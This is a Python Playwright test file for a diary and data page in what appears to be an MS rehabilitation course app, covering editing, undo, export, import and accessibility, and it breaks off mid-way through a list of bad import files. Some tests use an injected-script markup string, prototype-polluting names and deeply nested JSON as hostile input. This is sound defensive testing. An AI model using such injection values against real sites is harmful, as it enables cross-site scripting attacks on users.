"""The page "My diary and my data": read, change, remove, save, bring back, erase."""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Locator, Page, expect

from tests.browser.conftest import SYMPTOMS, NewContext
from tests.browser.diary import (
    MY_DIARY,
    SAVED,
    Entry,
    choose,
    download,
    entry,
    example,
    file_of,
    file_with,
    new_id,
    open_diary,
    press,
    raw,
    rows,
    store_script,
    written,
)
from tests.browser.test_paper import printed
from tests.conftest import ROOT

PAIN = entry(
    "checklist-answer",
    "2026-11-21T09:30:00+01:00",
    checklist="symptoms",
    item="pain",
    ticked=True,
    rating=6,
    note="In the calf.\nAt night.",
)
CHECK_IN = entry(
    "check-in",
    "2026-11-21T20:15:00+01:00",
    day="2026-11-21",
    colour="so-so",
    falls=0,
    note="Stairs.",
)
SESSION = entry(
    "session",
    "2026-11-22T18:40:00+01:00",
    day="2026-11-21",
    size="good",
    items=[
        {"item": "calf-stretch", "done": "all", "note": "Tight."},
        {"item": "bike", "done": "none"},
    ],
    minutes=25,
)
KINDS = [
    "checklist-answer",
    "check-in",
    "goal",
    "goal-rating",
    "if-then-plan",
    "exercise-plan",
    "session",
    "not-today",
    "ground-zero",
    "restart-step",
    "ground-zero-over",
    "reserve-days",
    "reserve-day",
    "reflection",
    "chapter-read",
    "quick-check-answer",
    "assignment-accepted",
    "backup",
]


def many(count: int) -> list[Entry]:
    """One reflection a day, numbered, over two months."""
    return [
        entry(
            "reflection",
            f"2026-{10 + n // 28}-{n % 28 + 1:02}T08:00:00+00:00",
            prompt="week",
            words=f"Thought {n}.",
        )
        for n in range(count)
    ]


def lines(row: Locator) -> dict[str, str]:
    """Return what a row says, line by line."""
    titles = row.get_by_role("term").all_inner_texts()
    return dict(zip(titles, row.get_by_role("definition").all_inner_texts(), strict=True))


# Reading


def test_everything_is_there_newest_first_in_words_under_its_day(page: Page) -> None:
    open_diary(page, PAIN, CHECK_IN, SESSION)
    expect(page.get_by_text("3 entries.", exact=True)).to_be_visible()
    days = page.locator("cb-diary-list").get_by_role("heading", level=3)
    expect(days).to_have_text(["Sunday 22 November 2026", "Saturday 21 November 2026"])
    kinds = page.locator("cb-diary-list").get_by_role("heading", level=4)
    expect(kinds).to_have_text(["Session", "Check-in", "Checklist"])
    assert [lines(row) for row in rows(page).all()] == [
        {
            # Written a day later, so it says its day.
            "Day": "Saturday 21 November 2026",
            "Size": "good",
            "Done": "calf stretch, done: all, Tight. · bike, done: none",
            "Minutes": "25",
        },
        {"Kind of day": "so-so", "Falls since last time": "0", "Note": "Stairs."},
        {
            "Checklist": "Where MS shows up",
            "Item": "Pain",
            "Ticked": "yes",
            "How much": "6 of 10",
            "Note": "In the calf.\nAt night.",
        },
    ]


def test_every_kind_of_entry_is_in_words(page: Page) -> None:
    open_diary(page, *map(example, KINDS))
    press(page, "Show older")
    expect(rows(page)).to_have_count(len(KINDS))
    for row in rows(page).all():
        assert lines(row), row.inner_text()
    machinery = r"[0-9a-f]{8}-|\[object|undefined|null|NaN|[{}]|20\d\d-\d\d|newer version"
    assert re.findall(machinery, page.locator(".cb-days").inner_text()) == []


def test_an_empty_diary_says_so(page: Page) -> None:
    open_diary(page)
    expect(page.get_by_text("Nothing is written here yet.")).to_be_visible()
    expect(page.get_by_role("button", name="Show older")).to_be_hidden()
    expect(page.get_by_text("There is nothing to save yet.")).to_be_visible()


def test_what_was_ticked_in_a_chapter_is_there(new_context: NewContext) -> None:
    context = new_context()
    chapter, diary = context.new_page(), context.new_page()
    open_diary(diary)
    chapter.goto(SYMPTOMS)
    chapter.get_by_role("checkbox", name="Pain").check()
    expect(rows(diary)).to_have_count(1)
    assert lines(rows(diary)) == {"Checklist": "Where MS shows up", "Item": "Pain", "Ticked": "yes"}


def test_only_one_kind_and_only_one_month(page: Page) -> None:
    open_diary(page, *many(30), CHECK_IN)
    page.get_by_role("combobox", name="Kind").select_option("Check-in")
    expect(rows(page)).to_have_count(1)
    expect(page.get_by_text("1 entry.", exact=True)).to_be_visible()
    page.get_by_role("combobox", name="Kind").select_option("Reflection")
    expect(page.get_by_text("30 entries. Here are the newest 10.")).to_be_visible()
    page.get_by_role("combobox", name="Month").select_option("November 2026")
    expect(page.get_by_text("2 entries.", exact=True)).to_be_visible()
    page.get_by_role("combobox", name="Kind").select_option("everything")
    expect(page.get_by_text("3 entries.", exact=True)).to_be_visible()
    page.get_by_role("combobox", name="Month").select_option("any month")
    expect(page.get_by_text("31 entries. Here are the newest 10.")).to_be_visible()


def test_show_older_goes_on_where_reading_stopped(page: Page) -> None:
    open_diary(page, *many(25))
    expect(page.get_by_text("25 entries. Here are the newest 10.")).to_be_visible()
    press(page, "Show older")
    expect(rows(page)).to_have_count(20)
    expect(rows(page).nth(10)).to_be_focused()
    expect(rows(page).nth(10)).to_contain_text("Thought 14.")
    press(page, "Show older")
    expect(rows(page)).to_have_count(25)
    expect(rows(page).nth(20)).to_be_focused()
    expect(page.get_by_role("button", name="Show older")).to_be_hidden()
    expect(page.get_by_text("25 entries.", exact=True)).to_be_visible()


def test_markup_in_the_diary_is_text(page: Page) -> None:
    markup = "<img src=x onerror=alert(1)><script>alert(2)</script><b>bold</b>"
    open_diary(
        page,
        entry("reflection", prompt="week", words=markup),
        entry("goal", goal=PAIN["id"], words=markup, steps=[markup] * 5),
        entry(markup[:60], words=markup),
    )
    elements = page.locator("cb-diary-list").locator("img, script, b")
    for row in rows(page).all():
        if (change := row.get_by_role("button", name="Change")).count():
            expect(row.locator("dl")).to_contain_text(markup)
            change.click()
            expect(row.get_by_role("textbox").first).to_have_value(markup)
            expect(elements).to_have_count(0)
            press(page, "Leave it as it was")
    page.get_by_role("button", name="Remove From a newer version").click()
    expect(page.get_by_text(SAVED)).to_be_visible()
    expect(elements).to_have_count(0)


@pytest.mark.parametrize("name", ["constructor", "__proto__", "toString"])
def test_a_name_that_means_something_to_the_browser_is_a_name(page: Page, name: str) -> None:
    answer = {"checklist": "symptoms", "item": "constructor", "ticked": True}
    open_diary(page, entry(name, words="Odd."), entry("checklist-answer", **answer))
    expect(rows(page)).to_have_count(2)
    assert lines(rows(page).first)["Item"] == "constructor"
    expect(rows(page).last).to_contain_text("From a newer version of the course")


# Changing


def change(page: Page, row: Locator, what: str, into: str) -> None:
    """Change one thing in the form: choose it by its group, or fill the field of that name."""
    choices = row.get_by_role("group", name=what, exact=True)
    if choices.count():
        choices.first.get_by_label(into, exact=True).first.check()
    else:
        row.get_by_label(what, exact=True).first.fill(into)


CHANGES = {
    "checklist-answer": ("How much", "3", {"rating": 3}),
    "check-in": ("Kind of day", "good", {"colour": "good"}),
    "goal": ("What it is for", "Bread.", {"purpose": "Bread."}),
    "goal-rating": ("Step, −2 to +2", "-1", {"level": -1}),
    "if-then-plan": ("Then I will", "rest", {"then": "rest"}),
    "exercise-plan": ("Note", "From Friday on.", {"note": "From Friday on."}),
    "session": ("Minutes", "30", {"minutes": 30}),
    "not-today": ("Reason", "new symptom", {"reason": "new symptom"}),
    "ground-zero": ("Since", "2027-01-30", {"since": "2027-01-30"}),
    "restart-step": ("Move", "Skip", {"move": None}),
    "ground-zero-over": ("What helped", "Sleep.", {"helped": "Sleep."}),
    "reserve-days": ("Days a month", "5", {"days": 5}),
    "reserve-day": ("Day", "2026-12-26", {"day": "2026-12-26"}),
    "reflection": ("My words", "It was the heat.", {"words": "It was the heat."}),
    "quick-check-answer": ("My words", "I know now.", {"words": "I know now."}),
}


def test_the_kinds_that_can_be_changed(page: Page) -> None:
    open_diary(page, *map(example, KINDS))
    press(page, "Show older")
    changeable = rows(page).filter(has=page.get_by_role("button", name="Change"))
    expect(changeable).to_have_count(len(CHANGES))
    expect(rows(page)).to_have_count(len(KINDS))


@pytest.mark.parametrize("kind", CHANGES)
def test_a_change_is_a_new_entry_in_the_old_place(page: Page, kind: str) -> None:
    what, into, changed = CHANGES[kind]
    before = example(kind)
    before["data"]["of-later"] = {"kept": [1, None, "as it is"]}
    older = entry("chapter-read", "2026-01-01T08:00:00+01:00", chapter="welcome")
    newer = entry("chapter-read", "2028-01-01T08:00:00+01:00", chapter="goals")
    open_diary(page, older, before, newer)
    row = rows(page).nth(1)
    words = lines(row)

    row.get_by_role("button", name="Change").click()
    change(page, row, what, into)
    press(page, "Save the change")
    expect(page.get_by_text(SAVED)).to_be_visible()
    expect(row.get_by_text("Changed.")).to_be_visible()
    expect(rows(page)).to_have_count(3)
    assert lines(row) != words
    kept = written(page)
    (edit,) = [each for each in kept if each not in (older, before, newer)]
    assert len(kept) == 4
    assert edit["type"] == kind
    assert edit["replaces"] == before["id"]
    wanted = {**before["data"], **changed}
    assert edit["data"] == {name: value for name, value in wanted.items() if value is not None}


def test_an_undone_change_leaves_the_old_words_in_the_old_place(page: Page) -> None:
    open_diary(page, PAIN, CHECK_IN, SESSION)
    row = rows(page).nth(1)
    words = lines(row)
    row.get_by_role("button", name="Change").click()
    row.get_by_label("Note").fill("No stairs.")
    press(page, "Save the change")
    expect(row).to_contain_text("No stairs.")
    row.get_by_role("button", name="Undo").click()
    expect(row).to_contain_text("Stairs.")
    expect(row.get_by_role("button", name="Undo")).to_have_count(0)
    assert lines(row) == words
    expect(page.get_by_text(SAVED)).to_be_visible()
    *_, edit, withdrawal = written(page)
    assert withdrawal["type"] == "withdrawal"
    assert withdrawal["data"] == {"entry": edit["id"]}
    page.reload()
    expect(rows(page)).to_have_count(3)
    assert lines(row) == words


def test_what_a_newer_version_wrote_is_carried_through_a_change(page: Page) -> None:
    plan = example("exercise-plan")
    plan["data"]["items"][0]["tempo"] = "slow"
    plan["data"]["items"][0]["sizes"]["good"]["rest"] = {"seconds": 20}
    open_diary(page, plan)
    press(page, "Change Exercise plan, 09:30")
    page.get_by_label("sat", exact=True).first.check()
    page.get_by_role("spinbutton", name="Sets").first.fill("4")
    press(page, "Save the change")
    expect(page.get_by_text(SAVED)).to_be_visible()
    first, _ = plan["data"]["items"]
    first["days"].append("sat")
    first["sizes"]["good"]["sets"] = 4
    assert written(page)[1]["data"] == plan["data"]


def test_a_change_can_be_left_as_it_was(page: Page) -> None:
    open_diary(page, PAIN, CHECK_IN)
    before = raw(page)
    press(page, "Change Check-in, 20:15")
    page.get_by_label("Note").fill("Not so.")
    press(page, "Leave it as it was")
    expect(rows(page).first).to_contain_text("Stairs.")
    expect(rows(page).first).to_be_focused()
    assert raw(page) == before


@pytest.mark.parametrize(
    ("what", "wrong", "right"),
    [("Day", "", "2026-11-20"), ("Falls since last time", "100", "2")],
)
def test_what_cannot_be_kept_says_so_and_loses_nothing(
    page: Page, what: str, wrong: str, right: str
) -> None:
    open_diary(page, CHECK_IN)
    before = raw(page)
    press(page, "Change Check-in, 20:15")
    page.get_by_label("Note").fill("Many words.")
    page.get_by_role("group", name="Pain").get_by_label("7", exact=True).check()
    page.get_by_label(what).fill(wrong)
    press(page, "Save the change")
    expect(page.get_by_role("status").filter(has_text="This cannot be kept")).to_be_visible()
    expect(page.get_by_label("Note")).to_have_value("Many words.")
    expect(page.get_by_role("group", name="Pain").get_by_label("7", exact=True)).to_be_checked()
    assert raw(page) == before
    page.get_by_label(what).fill(right)
    press(page, "Save the change")
    expect(page.get_by_text(SAVED)).to_be_visible()
    assert {"pain": 7, "note": "Many words."}.items() <= written(page)[1]["data"].items()


def test_half_a_number_is_not_taken_for_nothing(page: Page) -> None:
    open_diary(page, SESSION)
    before = raw(page)
    press(page, "Change Session, 18:40")
    page.get_by_label("Minutes").press("End")
    page.get_by_label("Minutes").press_sequentially("-")
    press(page, "Save the change")
    expect(page.get_by_role("status").filter(has_text="This cannot be kept")).to_be_visible()
    assert raw(page) == before


def test_another_tab_does_not_wipe_what_is_being_typed(new_context: NewContext) -> None:
    context = new_context()
    here, there = context.new_page(), context.new_page()
    open_diary(here, CHECK_IN)
    there.goto(SYMPTOMS)
    press(here, "Change Check-in, 20:15")
    here.get_by_label("Note").fill("Half a sen")
    there.get_by_role("checkbox", name="Pain").check()
    expect(there.get_by_text(SAVED)).to_be_visible()
    # The part that erases shows that the news has come.
    expect(here.locator(".cb-what").filter(has_text="2 entries")).to_be_attached()
    here.get_by_label("Note").press_sequentially("tence.")
    expect(here.get_by_label("Note")).to_have_value("Half a sentence.")
    press(here, "Save the change")
    expect(rows(here)).to_have_count(2)
    expect(rows(here).last).to_contain_text("Half a sentence.")


@pytest.mark.parametrize(
    "what", ["remove another", "change another", "choose a kind", "show older"]
)
def test_what_is_being_typed_survives_what_is_pressed_beside_it(page: Page, what: str) -> None:
    open_diary(page, *many(12), CHECK_IN, PAIN)
    press(page, "Change Check-in, 20:15")
    form = rows(page).filter(has=page.get_by_role("heading", name="Check-in"))
    note = form.get_by_label("Note")
    note.fill("Half a sentence.")
    if what == "remove another":
        press(page, "Remove Checklist, 09:30")
        expect(page.get_by_text("Removed.")).to_be_visible()
    elif what == "change another":
        press(page, "Change Checklist, 09:30")
        page.get_by_role("group", name="How much").get_by_label("3", exact=True).check()
        other = rows(page).filter(has=page.get_by_role("heading", name="Checklist"))
        other.get_by_role("button", name="Save the change").click()
        expect(page.get_by_text("Changed.")).to_be_visible()
    elif what == "choose a kind":
        page.get_by_role("combobox", name="Kind").select_option("Check-in")
    else:
        press(page, "Show older")
    expect(note).to_have_value("Half a sentence.")
    form.get_by_role("button", name="Save the change").click()
    expect(rows(page).filter(has_text="Half a sentence.")).to_contain_text("Changed.")


def test_the_list_goes_on_listening_after_a_form_was_left_open(new_context: NewContext) -> None:
    context = new_context()
    here, there = context.new_page(), context.new_page()
    open_diary(here, CHECK_IN, PAIN)
    there.goto(SYMPTOMS)
    press(here, "Change Check-in, 20:15")
    press(here, "Remove Checklist, 09:30")
    expect(here.get_by_text(SAVED)).to_be_visible()
    if (leave := here.get_by_role("button", name="Leave it as it was")).count():
        leave.click()
    there.get_by_role("checkbox", name="Fatigue").check()
    expect(rows(here).filter(has_text="Fatigue")).to_be_visible()


# Removing


def test_what_is_removed_can_be_brought_back_on_the_spot(page: Page) -> None:
    open_diary(page, PAIN, CHECK_IN, SESSION)
    press(page, "Remove Check-in, 20:15")
    row = rows(page).nth(1)
    expect(row.get_by_text("Removed.")).to_be_visible()
    expect(page.get_by_text("Stairs.")).to_have_count(0)
    expect(page.get_by_text(SAVED)).to_be_visible()
    expect(rows(page)).to_have_count(3)
    *_, withdrawal = written(page)
    assert withdrawal["type"] == "withdrawal"
    assert withdrawal["data"] == {"entry": CHECK_IN["id"]}
    row.get_by_role("button", name="Undo").click()
    expect(row).to_contain_text("Stairs.")
    expect(page.get_by_text(SAVED)).to_be_visible()
    assert len(written(page)) == 5
    page.reload()
    expect(rows(page)).to_have_count(3)
    expect(rows(page).nth(1)).to_contain_text("Stairs.")


def test_what_was_removed_stays_away(page: Page) -> None:
    open_diary(page, PAIN, CHECK_IN, SESSION)
    press(page, "Remove Check-in, 20:15")
    expect(page.get_by_text(SAVED)).to_be_visible()
    page.reload()
    expect(rows(page)).to_have_count(2)
    expect(page.get_by_text("Stairs.")).to_have_count(0)
    # The log only grows: the entry is still in it.
    assert CHECK_IN in written(page)


def test_what_a_newer_version_wrote_can_be_removed(page: Page) -> None:
    open_diary(page, entry("sunrise", colour="gold"), PAIN)
    expect(rows(page)).to_have_count(2)
    row = rows(page).filter(has_text="From a newer version of the course")
    expect(row.get_by_role("button", name="Change")).to_have_count(0)
    row.get_by_role("button", name=re.compile("^Remove From a newer version")).click()
    expect(page.get_by_text(SAVED)).to_be_visible()
    page.reload()
    expect(rows(page)).to_have_count(1)


def test_a_removal_that_cannot_be_written_says_so(page: Page) -> None:
    open_diary(page, PAIN, CHECK_IN)
    page.evaluate(
        "() => { IDBObjectStore.prototype.add = () => { throw new DOMException('', 'QuotaExceededError') } }"
    )
    press(page, "Remove Check-in, 20:15")
    expect(page.get_by_role("status").filter(has_text="Not saved.")).to_be_visible()
    expect(rows(page)).to_have_count(2)
    expect(rows(page).get_by_role("button", name="Undo")).to_have_count(1)


# Keyboard, fingers, a shaking hand


def test_everything_by_keyboard(page: Page) -> None:
    open_diary(page, PAIN, CHECK_IN, SESSION)
    middle = rows(page).nth(1)
    button = middle.get_by_role("button")
    page.get_by_role("combobox", name="Kind").focus()
    page.keyboard.press("Tab")
    expect(page.get_by_role("combobox", name="Month")).to_be_focused()
    for name in ("Change Session", "Remove Session", "Change Check-in"):
        page.keyboard.press("Tab")
        expect(page.get_by_role("button", name=name)).to_be_focused()
    # Change: the focus is in the form, and afterwards at the entry.
    page.keyboard.press("Enter")
    expect(page.get_by_label("Day")).to_be_focused()
    button.filter(has_text="Leave it as it was").focus()
    page.keyboard.press("Enter")
    expect(middle).to_be_focused()
    page.keyboard.press("Tab")
    page.keyboard.press("Enter")
    page.get_by_label("Note").focus()
    page.keyboard.type("Many ")
    page.keyboard.press("Tab")
    page.keyboard.press("Enter")
    expect(middle).to_contain_text("Changed.")
    expect(page.get_by_text(SAVED)).to_be_visible()
    expect(middle).to_be_focused()
    # Undo, then remove, and undo that too.
    for _ in range(3):
        page.keyboard.press("Tab")
    expect(button.filter(has_text="Undo")).to_be_focused()
    page.keyboard.press("Enter")
    expect(middle.get_by_text("Changed.")).to_have_count(0)
    expect(middle).to_be_focused()
    page.keyboard.press("Tab")
    page.keyboard.press("Tab")
    expect(button.filter(has_text="Remove")).to_be_focused()
    page.keyboard.press("Enter")
    expect(middle).to_contain_text("Removed.")
    expect(page.get_by_text(SAVED)).to_be_visible()
    expect(middle).to_be_focused()
    page.keyboard.press("Tab")
    expect(button.filter(has_text="Undo")).to_be_focused()
    page.keyboard.press("Space")
    expect(middle).to_contain_text("Stairs.")
    expect(middle).to_be_focused()


def test_the_focus_stays_when_another_tab_writes(new_context: NewContext) -> None:
    context = new_context()
    here, there = context.new_page(), context.new_page()
    open_diary(here, PAIN, CHECK_IN)
    there.goto(SYMPTOMS)
    remove = here.get_by_role("button", name="Remove Checklist, 09:30")
    remove.focus()
    there.get_by_role("checkbox", name="Fatigue").check()
    expect(rows(here)).to_have_count(3)
    expect(remove).to_be_focused()


def test_a_second_tap_changes_nothing(page: Page) -> None:
    open_diary(page, PAIN, CHECK_IN, SESSION)
    page.get_by_role("button", name="Remove Session").dblclick()
    expect(rows(page).first).to_contain_text("Removed.")
    expect(page.get_by_text(SAVED)).to_be_visible()
    assert [each["type"] for each in written(page)[3:]] == ["withdrawal"]
    page.get_by_role("button", name="Change Check-in").dblclick()
    page.get_by_text("good", exact=True).last.dblclick()
    expect(page.get_by_label("good", exact=True)).to_be_checked()
    page.get_by_role("button", name="Save the change").dblclick()
    expect(page.get_by_text("Changed.")).to_be_visible()
    expect(page.get_by_text(SAVED)).to_be_visible()
    assert [each["type"] for each in written(page)[3:]] == ["withdrawal", "check-in"]
    page.get_by_role("button", name="Undo").dblclick()
    expect(page.get_by_text("Changed.")).to_have_count(0)
    expect(page.get_by_text(SAVED)).to_be_visible()
    assert len(written(page)) == 6


def test_a_key_that_is_held_too_long_is_one_press(page: Page) -> None:
    open_diary(page)
    choose(page, file_of(PAIN))
    expect(page.get_by_role("button", name="Add to my diary")).to_be_focused()
    page.keyboard.down("Enter")
    added = page.get_by_text("✓ Added 1 entry.")
    expect(added).to_be_visible()
    # The browser takes this for the same key, still down.
    page.keyboard.down("Enter")
    page.keyboard.up("Enter")
    expect(added).to_be_visible()
    expect(rows(page)).to_have_count(1)
    assert written(page) == [PAIN]


def test_every_target_is_large_enough(new_context: NewContext) -> None:
    page = new_context(viewport={"width": 320, "height": 800}).new_page()
    open_diary(page, *map(example, CHANGES))
    press(page, "Show older")
    press(page, "Erase everything")
    choose(page, file_of(entry("reflection", prompt="week", words="From a file.")))
    expect(page.get_by_role("button", name="Add to my diary")).to_be_visible()
    for kind in CHANGES:
        row = page.locator(f'[data-entry="{example(kind)["id"]}"]')
        row.get_by_role("button", name="Change").click()
        small = page.evaluate("""() => {
            const targets = document.querySelectorAll(
                ".cb-component :is(button, select, textarea, label:has(input), input:not(label *))");
            return [...targets]
                .filter((target) => target.checkVisibility())
                .map((target) => [target.outerHTML.slice(0, 80), target.getBoundingClientRect()])
                .filter(([, box]) => Math.min(box.width, box.height) < 43.9)
                .map(([html, box]) => `${html} ${box.width} x ${box.height}`);
        }""")
        assert small == []
        assert page.evaluate("document.documentElement.scrollWidth") == 320
        press(page, "Leave it as it was")


def test_no_text_field_is_needed(page: Page) -> None:
    open_diary(page, PAIN, CHECK_IN)
    fields = page.get_by_role("textbox")
    expect(fields).to_have_count(0)
    press(page, "Remove Checklist, 09:30")
    expect(page.get_by_text(SAVED)).to_be_visible()
    choose(page, file_of(SESSION))
    press(page, "Add to my diary")
    expect(page.get_by_text("✓ Added 1 entry.")).to_be_visible()
    press(page, "Undo: take these entries out again")
    press(page, "Erase everything")
    expect(fields).to_have_count(0)
    press(page, "Erase it all now")
    expect(page.get_by_text("✓ Erased.")).to_be_visible()
    assert written(page) == []


# Saving a file


def test_the_file_is_the_whole_diary(new_context: NewContext) -> None:
    # The day before, for the rest of the world.
    page = new_context(timezone_id="Pacific/Auckland").new_page()
    page.clock.set_fixed_time("2026-11-22T12:30:00Z")
    everything = [*map(example, KINDS), entry("sunrise", colour="gold", seen=[None, {}])]
    everything[-1]["of-later"] = {"kept": True}
    everything.append(entry("reflection", prompt="week", words="Größe ☐ 🧗 \u2028 \ud83d \\n"))
    open_diary(page, *everything)
    name, content = download(page, "Save my diary to a file")
    assert name == "climbing-back-diary-2026-11-23.json"
    expect(page.get_by_text(f"✓ Your file is called {name}.")).to_be_visible()
    record = json.loads(content)
    assert record["format"] == "climbing-back-record"
    assert record["version"] == 1
    assert record["saved"] == "2026-11-23T01:30:00+13:00"
    kept = written(page)
    assert record["entries"] == kept
    assert [each for each in kept if each in everything] == sorted(everything, key=by_id)
    (note,) = [each for each in kept if each not in everything]
    assert note["type"] == "backup"
    assert note["data"] == {"entries": len(everything)}


def by_id(each: Entry) -> str:
    return each["id"]


def test_the_page_says_what_is_in_no_file_yet(page: Page) -> None:
    open_diary(page, PAIN, CHECK_IN)
    expect(page.get_by_text("You have not saved a file yet.")).to_be_visible()
    download(page, "Save my diary to a file")
    expect(page.get_by_text("All that you wrote is in a file.")).to_be_visible()
    page.goto(SYMPTOMS)
    page.get_by_role("checkbox", name="Fatigue").check()
    expect(page.get_by_text(SAVED)).to_be_visible()
    open_diary(page)
    expect(page.get_by_text("New since your last file: 1 entry.")).to_be_visible()
    page.goto(SYMPTOMS)
    page.get_by_role("checkbox", name="Weakness").check()
    expect(page.get_by_text(SAVED)).to_be_visible()
    open_diary(page)
    expect(page.get_by_text("New since your last file: 2 entries.")).to_be_visible()


def test_a_change_of_what_is_in_a_file_is_in_no_file(page: Page) -> None:
    open_diary(page, PAIN, CHECK_IN)
    download(page, "Save my diary to a file")
    press(page, "Change Check-in, 20:15")
    page.get_by_label("Note").fill("No stairs.")
    press(page, "Save the change")
    expect(page.get_by_text("New since your last file: 1 entry.")).to_be_visible()


def test_a_diary_that_cannot_be_written_can_still_be_saved(page: Page) -> None:
    open_diary(page, PAIN)
    page.evaluate(
        "() => { IDBObjectStore.prototype.add = () => { throw new DOMException('', 'QuotaExceededError') } }"
    )
    _, content = download(page, "Save my diary to a file")
    assert PAIN in json.loads(content)["entries"]
    assert written(page) == [PAIN]


# Bringing a file back


def test_a_file_is_shown_before_it_is_added_and_can_be_taken_out_again(page: Page) -> None:
    open_diary(page, PAIN, CHECK_IN)
    before = raw(page)
    choose(page, file_of(PAIN, SESSION, example("goal")), "mine.json")
    preview = page.get_by_text("mine.json: 2 entries new. Your diary has 1 entry of it already.")
    expect(preview).to_be_visible()
    expect(page.get_by_role("button", name="Add to my diary")).to_be_focused()
    expect(rows(page)).to_have_count(2)
    assert raw(page) == before

    page.keyboard.press("Enter")
    expect(page.get_by_text("✓ Added 2 entries.")).to_be_visible()
    expect(preview).to_be_hidden()
    expect(rows(page)).to_have_count(4)
    undo = page.get_by_role("button", name="Undo: take these entries out again")
    expect(undo).to_be_focused()
    assert sorted(written(page), key=by_id) == sorted(
        [PAIN, CHECK_IN, SESSION, example("goal")], key=by_id
    )

    page.keyboard.press("Enter")
    expect(page.get_by_text("✓ Undone: 2 entries taken out again.")).to_be_visible()
    expect(undo).to_be_hidden()
    expect(rows(page)).to_have_count(2)
    expect(page.get_by_label("Choose a diary file")).to_be_focused()
    assert raw(page) == before


def test_a_file_that_is_not_added_changes_nothing(page: Page) -> None:
    open_diary(page, PAIN)
    before = raw(page)
    choose(page, file_of(SESSION))
    press(page, "Do not add")
    expect(page.get_by_text("Nothing was added.")).to_be_visible()
    expect(page.get_by_role("button", name="Add to my diary")).to_be_hidden()
    expect(page.get_by_label("Choose a diary file")).to_be_focused()
    assert raw(page) == before
    # An empty field: the browser tells of the same file when it is chosen again.
    expect(page.get_by_label("Choose a diary file")).to_have_value("")
    choose(page, file_of(SESSION))
    press(page, "Add to my diary")
    expect(page.get_by_text("✓ Added 1 entry.")).to_be_visible()
    expect(page.get_by_label("Choose a diary file")).to_have_value("")
    assert written(page) == [PAIN, SESSION]


def test_a_file_that_is_known_has_nothing_to_add(page: Page) -> None:
    open_diary(page, PAIN)
    before = raw(page)
    choose(page, file_of(PAIN))
    expect(page.get_by_text("0 entries new. Your diary has 1 entry of it already.")).to_be_visible()
    expect(page.get_by_role("button", name="Add to my diary")).to_be_hidden()
    expect(page.get_by_role("button", name="Do not add")).to_be_focused()
    assert raw(page) == before


def test_ones_own_entry_stays_when_the_file_says_something_else(page: Page) -> None:
    open_diary(page, PAIN, CHECK_IN)
    others = [{**each, "data": {**each["data"], "note": "Changed."}} for each in (PAIN, CHECK_IN)]
    choose(page, file_of(*others, SESSION))
    expect(page.locator("cb-restore")).to_contain_text(
        "In other words than in your diary: 2 entries."
    )
    expect(page.locator("cb-restore")).to_contain_text("Your own words stay")
    press(page, "Add to my diary")
    expect(page.get_by_text("✓ Added 1 entry.")).to_be_visible()
    assert written(page) == [PAIN, CHECK_IN, SESSION]


def test_undo_leaves_what_came_from_elsewhere_in_the_meantime(new_context: NewContext) -> None:
    context = new_context()
    here, there = context.new_page(), context.new_page()
    for tab in (here, there):
        open_diary(tab)
    choose(here, file_of(PAIN, SESSION))
    expect(here.get_by_text("2 entries new.")).to_be_visible()
    choose(there, file_of(PAIN))
    press(there, "Add to my diary")
    expect(rows(here)).to_have_count(1)
    press(here, "Add to my diary")
    expect(rows(here)).to_have_count(2)
    press(here, "Undo: take these entries out again")
    expect(rows(here)).to_have_count(1)
    assert written(here) == [PAIN]


def test_two_devices_come_to_the_same_diary(new_context: NewContext) -> None:
    phone, tablet = new_context().new_page(), new_context().new_page()
    open_diary(phone, PAIN, SESSION, entry("sunrise", colour="gold"))
    open_diary(tablet, CHECK_IN)
    _, from_phone = download(phone, "Save my diary to a file")
    choose(tablet, from_phone)
    press(tablet, "Add to my diary")
    expect(tablet.get_by_text("✓ Added 4 entries.")).to_be_visible()
    press(tablet, "Remove Session, 18:40")
    expect(tablet.get_by_text(SAVED)).to_be_visible()
    _, from_tablet = download(tablet, "Save my diary to a file")
    choose(phone, from_tablet)
    press(phone, "Add to my diary")
    expect(phone.get_by_text("✓ Added 3 entries.")).to_be_visible()
    assert raw(phone) == raw(tablet)
    # Merged in another order, the entries are the same too.
    third = new_context().new_page()
    open_diary(third)
    for file in (from_tablet, from_phone):
        choose(third, file)
        expect(third.locator("cb-restore .cb-what")).to_contain_text("climbing-back-diary.json")
        if (add := third.get_by_role("button", name="Add to my diary")).is_visible():
            add.click()
            expect(third.get_by_text("✓ Added")).to_be_visible()
    assert raw(third) == raw(phone)


AS_IT_WAS = "Your diary is as it was."
FOREIGN = f"This is not a diary file of this course. {AS_IT_WAS}"
UNREADABLE = f"Nothing in this file can be read as a diary. {AS_IT_WAS}"
DEEP = b"[" * 100_000 + b"]" * 100_000


def nested(where: str) -> bytes:
    """Write a file with something that is 100,000 levels deep."""
    return {
        "alone": DEEP,
        "in an entry": file_of(entry("goal", words="deep")).replace(b'"deep"', DEEP),
        "in place of the entries": file_with(entries="deep").replace(b'"deep"', DEEP),
        "never closed": file_of(PAIN).replace(b"[", b"[" * 100_000),
    }[where]


def unusable(**change: Any) -> bytes:
    """Write a file with one entry that is not as it should be."""
    return file_of({**CHECK_IN, "id": new_id("2026-11-21T20:15:00+01:00"), **change})


BAD_FILES = {
    "empty": (b"", FOREIGN),
    "not text": (bytes(range(256)) * 40, FOREIGN),
    "a page": (b"<!doctype html><title>Diary</title>", FOREIGN),
    "other JSON": (b'{"format": "someone-elses", "version": 1, "entries": []}', FOREIGN),
    "a list": (b"[1, 2, 3]", FOREIGN),
    "nothing": (b"null", FOREIGN),
    "no entries": (file_with(), FOREIGN),
    "entries that are no list": (file_with(entries={"0": PAIN}), FOREIGN),
    "a newer version": (file_with(version=2, entries=[PAIN]), "made by another version"),
    "a version that is no number": (file_with(version="1", entries=[]), FOREIGN),
    "a newer version, cut off": (
        b'{"format":"climbing-back-record","version":2,"entries":[\n{"id":',
        "made by another version",
    ),
    "cut off in its first line": (file_of(PAIN)[:30], FOREIGN),
    "deep": (nested("alone"), FOREIGN),
    "deep in an entry": (nested("in an entry"), UNREADABLE),
    "deep in place of the entries": (nested("in place of the entries"), UNREADABLE),
    "deep and never closed": (nested("never closed"), FOREIGN),
    "a day that there is not": (unusable(data={"day": "2026-02-30", "pain": 1}), UNREADABLE),
    "a day of another century": (unusable(data={"day": "2126-01-01", "pain": 1}), UNREADABLE),
    "a moment that there is not": (unusable(at="2026-11-21T25:00:00+01:00"), UNREADABLE),
    "an id from the far future": (unusable(id="03ffffff-ffff-7fff-bfff-ffffffffffff"), UNREADABLE),
    "an id that is none": (unusable(id="__proto__"), UNREADABLE),
